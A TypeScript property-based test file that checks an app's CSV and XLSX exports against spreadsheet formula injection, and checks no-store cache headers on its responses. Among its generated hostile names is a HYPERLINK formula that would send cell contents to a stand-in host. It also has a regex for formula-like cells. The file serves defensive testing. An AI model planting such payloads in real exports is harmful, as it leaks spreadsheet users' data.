import ExcelJS from 'exceljs';
import fc from 'fast-check';
import JSZip from 'jszip';
import { startTestApp, type TestApp } from '../../../test/harness';

/** What a spreadsheet would run as a formula: =, +, -, @ first (after spaces too), or a leading tab or line break. */
const FORMULA_LIKE = /^(?:[\s\u3000]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|[\t\r\n])/;
/** A number the CSV writer formatted the Vietnamese way (-3, 1.234, 63,66): a spreadsheet reads it as a number. */
const VIETNAMESE_NUMBER = /^-?\d{1,3}(\.\d{3})*(,\d+)?$/;

/** Names that start like a formula: the leading characters an attacker would use, then anything printable. */
const hostileName = fc
  .tuple(
    fc.constantFrom('=', '+', '-', '@', '\t', '\r', ' =', '＝', '=HYPERLINK("http://x.test/?"&A1,"Xem")'),
    fc.string({ maxLength: 20 }),
  )
  .map(([start, rest]) => `${start}${rest}`)
  // A name that itself begins with an apostrophe once trimmed ("\t'…") shows it rightly: not what is tested here.
  .filter((name) => !name.trim().startsWith("'"));

/** RFC 4180 cells, quotes and line breaks inside quoted cells included. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    row.push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted && char === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && char === ',') {
      endCell();
    } else if (!quoted && char === '\r' && text[i + 1] === '\n') {
      endCell();
      rows.push(row);
      row = [];
      i++;
    } else {
      cell += char;
    }
  }
  if (cell || row.length) {
    endCell();
    rows.push(row);
  }
  return rows;
}

describe('exports with hostile unit, level, indicator and proposal names', () => {
  let app: TestApp;
  let admin: string;
  let query: { campaignId: string; reviewId: string };

  beforeAll(async () => {
    app = await startTestApp({ demo: 'full' });
    admin = await app.loginAs('admin@camau.demo');
    const [campaign] = await app.dataSource.query(`SELECT id FROM campaigns LIMIT 1`);
    const [review] = await app.dataSource.query(
      `SELECT review_id FROM proposals WHERE decision = 'APPROVED' GROUP BY review_id LIMIT 1`,
    );
    query = { campaignId: campaign.id, reviewId: review.review_id };
  }, 120_000);
  afterAll(() => app.close());

  const download = async (path: string) => {
    const response = await fetch(`${app.url}${path}`, { headers: { authorization: `Bearer ${admin}` } });
    expect({ path, status: response.status }).toEqual({ path, status: 200 });
    expect(response.headers.get('cache-control')).toBe('no-store');
    return response;
  };

  const csvExports = () => [
    `/exports/ranking.csv?campaignId=${query.campaignId}&levelKey=district`,
    `/exports/report-status.csv?campaignId=${query.campaignId}&period=1`,
  ];
  const xlsxExports = () => [
    `/exports/ranking.xlsx?campaignId=${query.campaignId}&levelKey=district`,
    `/exports/decision-list.xlsx?reviewId=${query.reviewId}`,
    `/exports/weekly-report.xlsx?campaignId=${query.campaignId}`,
  ];

  /** Every cell of every sheet as written in the file: no `<f>` element anywhere, every value read back. */
  async function xlsxCells(body: Buffer): Promise<ExcelJS.Cell[]> {
    const zip = await JSZip.loadAsync(body);
    const sheets = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name));
    expect(sheets.length).toBeGreaterThan(0);
    for (const sheet of sheets) expect(await zip.file(sheet)?.async('string')).not.toMatch(/<f[\s>]/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
    return cells;
  }

  it('never writes a cell that starts a formula, headers included, and shows no apostrophe in XLSX', async () => {
    await fc.assert(
      fc.asyncProperty(hostileName, hostileName, hostileName, hostileName, async (unit, indicator, level, form) => {
        await app.dataSource.query(`UPDATE units SET name = $1 || ' ' || code`, [unit]);
        await app.dataSource.query(`UPDATE indicators SET name = $1 || ' ' || code`, [indicator]);
        await app.dataSource.query(`UPDATE levels SET name = $1 || ' ' || key`, [level]);
        await app.dataSource.query(`UPDATE proposals SET form = $1::varchar, note = $1::varchar`, [form]);

        for (const path of csvExports()) {
          const rows = parseCsv((await (await download(path)).text()).replace(/^\uFEFF/, ''));
          const formulas = rows.flat().filter((cell) => FORMULA_LIKE.test(cell) && !VIETNAMESE_NUMBER.test(cell));
          expect({ path, formulas }).toEqual({ path, formulas: [] });
          // The hostile names are there, defused: the test reaches the cells it means to.
          expect(rows.flat().some((cell) => cell.startsWith(`'${unit}`))).toBe(true);
        }
        const rankingHeaders = parseCsv((await (await download(csvExports()[0])).text()).replace(/^\uFEFF/, ''))[0];
        expect(rankingHeaders.some((cell) => cell.startsWith(`'${indicator}`))).toBe(true);

        for (const path of xlsxExports()) {
          const cells = await xlsxCells(Buffer.from(await (await download(path)).arrayBuffer()));
          const wrong = cells
            .filter((cell) => cell.type === ExcelJS.ValueType.Formula || typeof cell.value === 'string')
            .filter(
              (cell) =>
                cell.type === ExcelJS.ValueType.Formula ||
                /^'/.test(String(cell.value)) ||
                (FORMULA_LIKE.test(String(cell.value)) && cell.numFmt !== '@'),
            )
            .map((cell) => `${cell.worksheet.name}!${cell.address}: ${JSON.stringify(cell.value)} (${cell.numFmt})`);
          expect({ path, wrong }).toEqual({ path, wrong: [] });
          // As it was written, no apostrophe added (XML reads a carriage return back as a line feed).
          const shown = unit.replace(/\r\n?/g, '\n');
          const unitShown = cells.some((cell) => String(cell.value).startsWith(shown));
          expect({ path, unitShown }).toEqual({ path, unitShown: true });
        }
      }),
      { numRuns: 12 },
    );
  }, 300_000);

  it('answers GraphQL with Cache-Control: no-store', async () => {
    const response = await fetch(`${app.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${admin}` },
      body: JSON.stringify({ query: '{ me { name } }' }),
    });
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('no-store');
  });
});
